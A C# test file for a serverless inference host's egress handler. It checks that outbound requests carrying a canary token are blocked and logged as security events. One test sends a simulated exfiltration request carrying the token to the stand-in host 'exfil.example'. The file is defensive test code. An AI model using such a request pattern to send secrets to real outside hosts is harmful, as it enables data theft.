using System.Net;
using System.Net.Http.Headers;
using System.Net.Sockets;
using System.Text;
using Microsoft.Extensions.DependencyInjection;
using ServerlessServe.Core.Protocol;
using ServerlessServe.Core.Security;
using ServerlessServe.Hosting.Egress;
using ServerlessServe.Hosting.Tests.Tripwires;

namespace ServerlessServe.Hosting.Tests.Egress;

/// <summary>
/// Every client from the factory refuses an outbound request carrying a canary value (URI, header or body) before it
/// leaves, even to a host off the allow-list, and raises one <c>canary-egress</c> event; clean requests and bodies sent
/// to the app's own storage pass.
/// </summary>
public sealed class CanaryEgressHandlerTests
{
    private const string Token = "egress-canary-for-handler-tests";

    [Fact]
    public async Task Request_CanaryInTheQuery_RefusedBeforeItLeaves_OneEvent()
    {
        using var server = new Server();
        await using var services = await Start(server);

        await Assert.ThrowsAsync<EgressDeniedException>(() => Client(services).GetAsync(server.Url("v2/health/ready?x=" + Token)));

        await services.StopAsync();
        Assert.False(server.Contacted, "the request left");
        var raised = Assert.Single(services.Events.Raised);
        Assert.Equal(SecurityEventKinds.CanaryEgress, raised.Kind);
        Assert.Equal((CanaryTokens.IdOf(Token), "127.0.0.1", "uri"), (raised.Evidence["canaries"], raised.Evidence["host"], raised.Evidence["found"]));
        Assert.DoesNotContain(Token, string.Join(' ', raised.Evidence.Values), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(10)]
    [InlineData(64 * 1024 - 7)]
    [InlineData(300 * 1024)]
    public async Task Request_CanaryInTheBodyAnywhere_Refused(int offset)
    {
        using var server = new Server();
        await using var services = await Start(server);
        var body = new byte[offset + 100_000];
        Encoding.ASCII.GetBytes(Token).CopyTo(body, offset);

        await Assert.ThrowsAsync<EgressDeniedException>(() => Client(services).PostAsync(server.Url("v2/models/m/infer"), new ByteArrayContent(body)));

        await services.StopAsync();
        Assert.Equal("body", Assert.Single(services.Events.Raised).Evidence["found"]);
    }

    [Theory]
    [InlineData(0, true)]
    [InlineData(5, true)]
    [InlineData(20, true)]
    [InlineData(5, false)]
    public async Task Request_ForwardedTensors_CanarySplitAcrossTensors_Refused(int split, bool declareLength)
    {
        // The gateway's request to the inference app is searched in the tensors' own arrays (ISegmentedContent): a
        // value is found where the wire joins two tensors. Sent chunked (no Content-Length, as the gateway sends it), the
        // body's length is still known, so it is searched all the same.
        using var server = new Server();
        await using var services = await Start(server);
        var token = Encoding.ASCII.GetBytes(Token);
        var first = new byte[300_000];
        token.AsSpan(0, split).CopyTo(first.AsSpan(first.Length - split));
        var second = token[split..];
        var request = new InferenceRequest
        {
            Inputs = [new Tensor("a", TensorDataType.UInt8, [first.Length], first), new Tensor("b", TensorDataType.UInt8, [second.Length], second)],
        };

        await Assert.ThrowsAsync<EgressDeniedException>(() => Client(services).PostAsync(server.Url("v2/models/m/infer"), new V2BinaryRequestContent(request, binaryOutputs: true, declareLength)));

        await services.StopAsync();
        Assert.False(server.Contacted, "the request left");
        Assert.Equal("body", Assert.Single(services.Events.Raised).Evidence["found"]);
    }

    [Fact]
    public async Task Request_ForwardedImage_Clean_Sent()
    {
        using var server = new Server();
        await using var services = await Start(server);
        var request = new InferenceRequest { Inputs = [new Tensor("image", TensorDataType.Fp32, [1, 3, 224, 224], new float[3 * 224 * 224])] };

        using var response = await Client(services).PostAsync(server.Url("v2/models/m/infer"), new V2BinaryRequestContent(request, binaryOutputs: true));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        await services.StopAsync();
        Assert.Empty(services.Events.Raised);
    }

    [Fact]
    public async Task Request_CanaryInAHeader_Refused()
    {
        using var server = new Server();
        await using var services = await Start(server);
        using var request = new HttpRequestMessage(HttpMethod.Get, server.Url("v2"));
        request.Headers.TryAddWithoutValidation("x-note", Token);

        await Assert.ThrowsAsync<EgressDeniedException>(() => Client(services).SendAsync(request));

        await services.StopAsync();
        Assert.Equal("headers", Assert.Single(services.Events.Raised).Evidence["found"]);
    }

    [Fact]
    public async Task Request_OffTheListWithACanary_StillAnEvent_CleanOneOnlyRefused()
    {
        using var server = new Server();
        await using var services = await Start(server);

        await Assert.ThrowsAsync<EgressDeniedException>(() => Client(services).GetAsync(new Uri("http://exfil.example/?" + Token)));
        await Assert.ThrowsAsync<EgressDeniedException>(() => Client(services).GetAsync(new Uri("http://exfil.example/clean")));

        await services.StopAsync();
        Assert.Equal("exfil.example", Assert.Single(services.Events.Raised).Evidence["host"]);
    }

    [Fact]
    public async Task Request_Clean_Sent()
    {
        using var server = new Server();
        await using var services = await Start(server);

        using var response = await Client(services).PostAsync(server.Url("v2/models/m/infer"), new StringContent("{\"inputs\":[]}"));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        await services.StopAsync();
        Assert.Empty(services.Events.Raised);
    }

    [Fact]
    public async Task Request_BodyToTheAppsOwnStorage_NotSearched()
    {
        using var server = new Server();
        await using var services = await TripwireServices.StartAsync(new Dictionary<string, string?>
        {
            ["ServerlessServe:Canaries:Tokens:0"] = Token,
            ["ServerlessServe:Storage:ConnectionString"] = null,
            ["ServerlessServe:Storage:BlobServiceUri"] = server.Url("devstoreaccount1").AbsoluteUri,
            ["ServerlessServe:Storage:TableServiceUri"] = server.Url("devstoreaccount1").AbsoluteUri,
        });
        using var content = new ByteArrayContent(Encoding.ASCII.GetBytes("[{\"note\":\"" + Token + "\"}]"));
        content.Headers.ContentType = new MediaTypeHeaderValue("application/json");

        using var response = await Client(services).PutAsync(server.Url("devstoreaccount1/job-payloads/jobs/j1/abc"), content);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        await services.StopAsync();
        Assert.Empty(services.Events.Raised);
    }

    private static Task<TripwireServices> Start(Server server) => TripwireServices.StartAsync(new Dictionary<string, string?>
    {
        ["ServerlessServe:Canaries:Tokens:0"] = Token,
        ["ServerlessServe:Gateway:InferenceBaseUrl"] = server.Url("").AbsoluteUri,
    });

    private static HttpClient Client(TripwireServices services) =>
        services.Provider.GetRequiredService<IHttpClientFactory>().CreateClient("any");

    /// <summary>A loopback HTTP server that answers every request 200 and remembers being contacted.</summary>
    private sealed class Server : IDisposable
    {
        private readonly TcpListener _listener = new(IPAddress.Loopback, 0);
        private readonly CancellationTokenSource _stop = new();
        private int _contacted;

        public Server()
        {
            _listener.Start();
            _ = Task.Run(AcceptAsync);
        }

        public bool Contacted => Volatile.Read(ref _contacted) != 0;

        public Uri Url(string path) => new($"http://127.0.0.1:{((IPEndPoint)_listener.LocalEndpoint).Port}/{path}");

        public void Dispose()
        {
            _stop.Cancel();
            _listener.Stop();
            _stop.Dispose();
        }

        private async Task AcceptAsync()
        {
            try
            {
                while (!_stop.IsCancellationRequested)
                {
                    using var socket = await _listener.AcceptSocketAsync(_stop.Token);
                    Interlocked.Exchange(ref _contacted, 1);
                    await ReadRequestAsync(socket);
                    await socket.SendAsync(Encoding.ASCII.GetBytes("HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"));
                }
            }
            catch (Exception ex) when (ex is OperationCanceledException or SocketException or ObjectDisposedException)
            {
                // Stopped.
            }
        }

        // Reads the head and a Content-Length body, so the client is not reset mid-send.
        private static async Task ReadRequestAsync(Socket socket)
        {
            var received = new List<byte>();
            var buffer = new byte[16 * 1024];
            int headEnd;
            while ((headEnd = IndexOfHeadEnd(received)) < 0)
            {
                var read = await socket.ReceiveAsync(buffer);
                if (read == 0)
                {
                    return;
                }

                received.AddRange(buffer.AsSpan(0, read));
            }

            var head = Encoding.ASCII.GetString(received.ToArray(), 0, headEnd);
            var lengthLine = head.Split("\r\n").FirstOrDefault(l => l.StartsWith("Content-Length:", StringComparison.OrdinalIgnoreCase));
            var length = lengthLine is null ? 0 : int.Parse(lengthLine["Content-Length:".Length..].Trim(), System.Globalization.CultureInfo.InvariantCulture);
            var remaining = length - (received.Count - headEnd - 4);
            while (remaining > 0)
            {
                var read = await socket.ReceiveAsync(buffer);
                if (read == 0)
                {
                    return;
                }

                remaining -= read;
            }
        }

        private static int IndexOfHeadEnd(List<byte> bytes)
        {
            for (var i = 3; i < bytes.Count; i++)
            {
                if (bytes[i - 3] == '\r' && bytes[i - 2] == '\n' && bytes[i - 1] == '\r' && bytes[i] == '\n')
                {
                    return i - 3;
                }
            }

            return -1;
        }
    }
}
